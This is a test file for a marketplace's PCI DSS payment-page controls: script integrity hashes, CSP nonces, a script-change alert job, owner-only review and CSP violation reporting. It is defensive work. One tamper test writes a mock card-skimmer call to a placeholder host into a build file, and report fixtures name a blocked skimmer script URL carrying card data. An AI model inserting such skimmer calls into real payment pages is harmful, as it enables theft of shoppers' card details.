import { createHash } from 'node:crypto';
import { cp, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { and, eq, sql } from 'drizzle-orm';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditLog, cspViolations, paymentPageInventories } from '@marketplace/db';
import { STAFF_ROLES } from '@marketplace/domain/admin/console';
import {
  PAYMENT_SCRIPTS_MESSAGES,
  type PaymentPageScript,
  type PaymentScriptsView,
} from '@marketplace/domain/admin/payment-scripts-api';
import { createTestApp, type TestApp } from '../../../test-support/testing.ts';
import { verifiedStaff } from '../../../test-support/staff.ts';
import { loadProductionWeb } from '../../web/production.ts';
import { CSP_ROWS_PER_DAY, indianDay } from './csp-reports.ts';
import {
  fetchScriptHash,
  fingerprintOf,
  paymentPageCheckJob,
  paymentPageFiles,
  paymentPageInventory,
  type PaymentPageBuild,
  recordInventory,
  sha384,
} from './inventory.ts';

// requirements#payment-page-scripts: PCI DSS 4.0 6.4.3 (inventory, justification, integrity) and
// 11.6.1 (alert on change of the payment page's scripts)
let t: TestApp;
const clock = { now: new Date('2026-12-07T10:00:00+05:30') };
let release: PaymentPageBuild;
let owner = '';
const roleCookies: Record<string, string> = {};
const SHOPPER = 'priya@example.com';
const silent = pino({ level: 'silent' });

const request = (method: string, path: string, cookie?: string, body?: unknown, type = 'application/json') =>
  t.request(path, {
    method,
    headers: {
      ...(body === undefined ? {} : { 'content-type': type }),
      ...(cookie ? { cookie } : {}),
    },
    body: body === undefined ? undefined : typeof body === 'string' ? body : JSON.stringify(body),
  });
const errorOf = async (res: Response) =>
  ((await res.json()) as { error: { code: string; message: string } }).error;
const view = async () =>
  (await (await request('GET', '/api/admin/payment-scripts', owner)).json()) as PaymentScriptsView;

/** A local stand-in for a provider's script host: serves whatever `body` holds, or 404 when null. */
let script: string | null = 'window.Razorpay = function () {};';
let scriptServer: Server;
let scriptUrl = '';

beforeAll(async () => {
  t = await createTestApp({ clock: () => clock.now });
  const web = await loadProductionWeb();
  if (!web.release) throw new Error('the production build has no release');
  release = web.release;
  owner = (await verifiedStaff(t, 'owner-scripts@staff.example.com', 'owner', () => clock.now)).cookie;
  for (const role of STAFF_ROLES.filter((r) => r !== 'owner'))
    roleCookies[role] = (
      await verifiedStaff(t, `${role}-scripts@staff.example.com`, role, () => clock.now)
    ).cookie;
  scriptServer = createServer((req, res) => {
    if (req.url !== '/v1/checkout.js' || script === null) {
      res.writeHead(404).end('Not found');
      return;
    }
    res.writeHead(200, { 'content-type': 'application/javascript' }).end(script);
  });
  await new Promise<void>((resolve) => scriptServer.listen(0, '127.0.0.1', resolve));
  const address = scriptServer.address();
  if (!address || typeof address === 'string') throw new Error('no port');
  scriptUrl = `http://127.0.0.1:${address.port}/v1/checkout.js`;
});
afterAll(async () => {
  await new Promise((resolve) => scriptServer.close(resolve));
  await t.close();
});

describe('the payment page gives every build file its integrity (6.4.3)', () => {
  it('lists each script it imports in its import map, and each integrity matches the file served', async () => {
    const res = await request('GET', '/paymentgateway', await t.loginCookie(SHOPPER));
    expect(res.status).toBe(200);
    const html = await res.text();
    const map = /<script[^>]*type="importmap"[^>]*>([^<]*)<\/script>/.exec(html);
    expect(map, 'the import map').not.toBeNull();
    const integrity = (JSON.parse(map?.[1] ?? '{}') as { integrity: Record<string, string> }).integrity;
    const preloads = [...html.matchAll(/<link rel="modulepreload" href="([^"]+)"[^>]*integrity="([^"]+)"/g)];
    expect(preloads.length).toBeGreaterThan(2);
    for (const file of paymentPageFiles(release.assets)) {
      expect(integrity[file], file).toMatch(/^sha384-[A-Za-z0-9+/]{64}$/);
      const served = await request('GET', file);
      expect(served.status, file).toBe(200);
      expect(sha384(Buffer.from(await served.arrayBuffer())), file).toBe(integrity[file]);
    }
    for (const [, href, given] of preloads) expect(integrity[href ?? ''], href).toBe(given);
    // every inline script runs only with the response's nonce
    const nonce = /'nonce-([^']+)'/.exec(res.headers.get('content-security-policy') ?? '')?.[1];
    const scripts = [...html.matchAll(/<script\b([^>]*)>/g)].map((match) => match[1] ?? '');
    expect(scripts.length).toBeGreaterThan(1);
    for (const attributes of scripts) expect(attributes).toContain(`nonce="${nonce}"`);
  });

  it('the policy sends what it blocks to our report address', async () => {
    const res = await request('GET', '/');
    expect(res.headers.get('content-security-policy')).toMatch(/; report-uri \/csp-reports$/);
  });
});

describe('the inventory and its check (11.6.1)', () => {
  const externals = () => [{ src: scriptUrl, owner: 'Razorpay', purpose: 'The checkout form.' }];

  it('lists the build files with integrity and their hash on disk, the inline scripts and the provider’s script', async () => {
    const scripts = await paymentPageInventory(release, externals());
    const bundles = scripts.filter((s) => s.kind === 'bundle');
    expect(bundles.map((s) => s.src)).toEqual(paymentPageFiles(release.assets));
    for (const bundle of bundles) expect(bundle.observed, bundle.src).toBe(bundle.integrity);
    expect(scripts.filter((s) => s.kind === 'inline').length).toBeGreaterThanOrEqual(3);
    const external = scripts.find((s) => s.kind === 'external');
    expect(external?.observed).toBe(sha384(script ?? ''));
    expect(external?.integrity).toBeNull();
    for (const entry of scripts) expect(entry.purpose.length, entry.src).toBeGreaterThan(10);
  });

  it('a provider’s script that cannot be fetched is recorded as unknown, never an error', async () => {
    const saved = script;
    script = null;
    expect(await fetchScriptHash(scriptUrl)).toBeNull();
    expect(await fetchScriptHash('http://127.0.0.1:9/none.js', 2_000)).toBeNull();
    script = saved;
  });

  it('takes a new shop’s first list as reviewed, alerts on a change, and lets an owner review it', async () => {
    expect((await view()).review.status).toBe('unchecked');
    const job = paymentPageCheckJob(t.db, () => release, externals(), silent, { now: () => clock.now });
    await job.run();
    let shown = await view();
    expect(shown.review).toMatchObject({ status: 'reviewed', reviewedBy: 'first check' });
    expect(shown.scripts.length).toBeGreaterThan(5);
    await job.run(); // the same list again changes nothing
    expect(await t.db.select().from(paymentPageInventories)).toHaveLength(1);

    // the provider changed its script
    script = 'window.Razorpay = function () { /* v2 */ };';
    clock.now = new Date(clock.now.getTime() + 60_000);
    await job.run();
    shown = await view();
    expect(shown.review.status).toBe('changed');
    expect(shown.changed.map((s) => s.src)).toEqual([scriptUrl]);
    expect(shown.added).toEqual([]);
    const [alert] = await t.db.select().from(auditLog).where(eq(auditLog.action, 'payment-scripts.changed'));
    expect(alert).toMatchObject({
      actor: 'job:payment-page-check',
      actorStaffId: null,
      targetType: 'payment-page',
    });
    expect(alert?.after).toEqual({ added: [], removed: [], changed: [scriptUrl] });

    // an owner reviews what they read; an older fingerprint is refused
    const stale = await request('POST', '/api/admin/payment-scripts/review', owner, {
      fingerprint: '0'.repeat(64),
    });
    expect(stale.status).toBe(409);
    expect((await errorOf(stale)).message).toBe(PAYMENT_SCRIPTS_MESSAGES.stale);
    const fingerprint = shown.review.fingerprint ?? '';
    const approved = await request('POST', '/api/admin/payment-scripts/review', owner, { fingerprint });
    expect(approved.status).toBe(200);
    expect(((await approved.json()) as { message: string }).message).toBe(PAYMENT_SCRIPTS_MESSAGES.approved);
    shown = await view();
    expect(shown.review).toMatchObject({ status: 'reviewed', reviewedBy: 'owner-scripts@staff.example.com' });
    const again = await request('POST', '/api/admin/payment-scripts/review', owner, { fingerprint });
    expect(again.status).toBe(409);
    expect((await errorOf(again)).message).toBe(PAYMENT_SCRIPTS_MESSAGES.nothingToApprove);
    const reviews = await t.db.select().from(auditLog).where(eq(auditLog.action, 'payment-scripts.approved'));
    expect(reviews).toHaveLength(1);
    expect(reviews[0]?.actor).toBe('owner-scripts@staff.example.com');
  });

  it('a build file changed on disk shows as differing from its build, and as a change to review', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'payment-page-'));
    try {
      await cp(release.clientDir, dir, { recursive: true });
      const [file] = paymentPageFiles(release.assets).filter((f) => f !== release.assets.url);
      await writeFile(join(dir, file ?? ''), 'fetch("https://skimmer.example/steal")');
      const scripts = await paymentPageInventory({ ...release, clientDir: dir }, []);
      const tampered = scripts.find((s) => s.src === file);
      expect(tampered?.observed).toBe(sha384('fetch("https://skimmer.example/steal")'));
      expect(tampered?.observed).not.toBe(tampered?.integrity);
      clock.now = new Date(clock.now.getTime() + 60_000);
      expect((await recordInventory(t.db, scripts, clock.now)).result).toBe('changed');
      const shown = await view();
      expect(shown.review.status).toBe('changed');
      expect(shown.changed.map((s) => s.src)).toContain(file);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  });

  it('fingerprints a list by its content, whatever its order', () => {
    const a: PaymentPageScript = {
      src: '/a.js',
      kind: 'bundle',
      owner: 'Bazaar',
      purpose: 'p',
      integrity: 'sha384-a',
      control: 'c',
      observed: 'sha384-a',
    };
    const b = { ...a, src: '/b.js' };
    expect(fingerprintOf([a, b])).toBe(fingerprintOf([b, a]));
    expect(fingerprintOf([a, b])).not.toBe(fingerprintOf([a, { ...b, observed: 'sha384-x' }]));
    expect(fingerprintOf([a])).toBe(
      createHash('sha256')
        .update(JSON.stringify([['/a.js', 'bundle', 'sha384-a', 'sha384-a']]))
        .digest('hex'),
    );
  });
});

describe('only owners reach the payment page scripts', () => {
  it('a visitor gets 401, a shopper and every other role 403, and nothing is reviewed', async () => {
    const before = await t.db.select().from(paymentPageInventories);
    const shopper = await t.loginCookie(SHOPPER);
    for (const cookie of [undefined, shopper, ...Object.values(roleCookies)]) {
      const expected = cookie === undefined ? 401 : 403;
      expect((await request('GET', '/api/admin/payment-scripts', cookie)).status).toBe(expected);
      const fingerprint = before.at(-1)?.fingerprint ?? '';
      expect(
        (await request('POST', '/api/admin/payment-scripts/review', cookie, { fingerprint })).status,
      ).toBe(expected);
    }
    expect(await t.db.select().from(paymentPageInventories)).toEqual(before);
  });

  it('refuses a malformed review without a 500', async () => {
    for (const body of [
      {},
      { fingerprint: 'abc' },
      { fingerprint: `${'a'.repeat(63)}\u0000` },
      { fingerprint: 'a'.repeat(10_000) },
    ])
      expect((await request('POST', '/api/admin/payment-scripts/review', owner, body)).status).toBe(400);
    expect(
      (await request('POST', '/api/admin/payment-scripts/review', owner, '{"fingerprint":')).status,
    ).toBe(400);
  });
});

describe('browsers’ reports of what the policy blocked', () => {
  const report = (change: Record<string, unknown> = {}) => ({
    'csp-report': {
      'document-uri': 'https://shop.example/paymentgateway?order=OD123&phone=9876543210',
      'violated-directive': 'script-src-elem',
      'effective-directive': 'script-src-elem',
      'blocked-uri': 'https://skimmer.example/steal.js?card=4111',
      'source-file': 'https://shop.example/assets/entry.client-abc.js',
      ...change,
    },
  });
  const send = (body: unknown, type = 'application/csp-report') =>
    request('POST', '/csp-reports', undefined, body, type);
  const rows = () =>
    t.db.select().from(cspViolations).orderBy(cspViolations.documentPath, cspViolations.directive);

  it('counts a report per day, page, directive and blocked origin, keeping no query string', async () => {
    expect((await send(report())).status).toBe(204);
    expect((await send(report())).status).toBe(204);
    const [row] = await rows();
    expect(row).toMatchObject({
      day: indianDay(clock.now),
      documentPath: '/paymentgateway',
      directive: 'script-src-elem',
      blocked: 'https://skimmer.example',
      sourceFile: 'https://shop.example/assets/entry.client-abc.js',
      count: 2,
    });
    expect(JSON.stringify(await rows())).not.toMatch(/9876543210|4111|OD123/);
    const shown = await view();
    expect(shown.violations[0]).toMatchObject({ documentPath: '/paymentgateway', count: 2 });
  });

  it('reads the Reporting API’s batches too', async () => {
    const batch = [
      {
        type: 'csp-violation',
        url: 'https://shop.example/cart',
        body: {
          documentURL: 'https://shop.example/cart',
          effectiveDirective: 'img-src',
          blockedURL: 'https://ads.example/p.gif',
        },
      },
      { type: 'deprecation', url: 'https://shop.example/', body: {} },
    ];
    expect((await send(batch, 'application/reports+json')).status).toBe(204);
    expect((await rows()).find((r) => r.documentPath === '/cart')).toMatchObject({
      directive: 'img-src',
      blocked: 'https://ads.example',
    });
  });

  it('counts concurrent duplicates exactly', async () => {
    const inline = report({
      'document-uri': 'https://shop.example/checkout',
      'blocked-uri': 'inline',
      'effective-directive': 'script-src-elem',
    });
    const answers = await Promise.all(Array.from({ length: 8 }, async () => send(inline)));
    expect(answers.map((a) => a.status)).toEqual(Array(8).fill(204));
    const row = (await rows()).find((r) => r.documentPath === '/checkout');
    expect(row).toMatchObject({ blocked: 'inline', count: 8 });
  });

  it('refuses what is not a report: 400, 413, 415 or 405, never a 500, and stores nothing', async () => {
    const before = await rows();
    const cases: [string, string, number][] = [
      ['{"csp-report":', 'application/csp-report', 400],
      ['[]', 'application/reports+json', 400],
      [
        '{"csp-report": {"document-uri": "not a url", "effective-directive": "script-src"}}',
        'application/csp-report',
        400,
      ],
      [
        '{"csp-report": {"document-uri": "https://a.example/", "effective-directive": "<script>"}}',
        'application/csp-report',
        400,
      ],
      [
        `{"csp-report": {"document-uri": "https://a.example/\u0000", "effective-directive": "script-src"}}`,
        'application/csp-report',
        400,
      ],
      ['"report"', 'application/csp-report', 400],
      [
        JSON.stringify(Array.from({ length: 21 }, () => ({ type: 'csp-violation', body: {} }))),
        'application/reports+json',
        400,
      ],
      [JSON.stringify(report({ padding: 'x'.repeat(20_000) })), 'application/csp-report', 413],
      [JSON.stringify(report()), 'text/plain', 415],
      [JSON.stringify(report()), 'multipart/form-data', 415],
    ];
    for (const [body, type, status] of cases) {
      const res = await send(body, type);
      expect(res.status, `${type} ${body.slice(0, 40)}`).toBe(status);
    }
    expect((await request('GET', '/csp-reports')).status).toBe(405);
    expect(
      (await request('POST', '/csp-reports%ZZ', undefined, '{}', 'application/csp-report')).status,
    ).not.toBe(500);
    expect(await rows()).toEqual(before);
  });

  it('keeps at most a day’s worth of distinct rows, counting those it has', async () => {
    const day = indianDay(clock.now);
    await t.db.execute(sql`
      INSERT INTO csp_violations (day, document_path, directive, blocked, count, first_at, last_at)
      SELECT ${day}, '/filler/' || n, 'img-src', 'https://x.example', 1, now(), now()
      FROM generate_series(1, ${CSP_ROWS_PER_DAY}) AS n`);
    expect((await send(report({ 'document-uri': 'https://shop.example/new-page' }))).status).toBe(204);
    expect((await rows()).some((r) => r.documentPath === '/new-page')).toBe(false);
    expect((await send(report())).status).toBe(204); // an existing row still counts
    const [payment] = await t.db
      .select()
      .from(cspViolations)
      .where(and(eq(cspViolations.day, day), eq(cspViolations.documentPath, '/paymentgateway')));
    expect(payment?.count).toBe(3);
    await t.db.delete(cspViolations).where(sql`${cspViolations.documentPath} LIKE '/filler/%'`);
  });

  it('drops reports after 90 days, when the check runs', async () => {
    clock.now = new Date(clock.now.getTime() + 91 * 86_400_000);
    await paymentPageCheckJob(t.db, () => null, [], silent, { now: () => clock.now }).run();
    expect(await rows()).toEqual([]);
  });
});
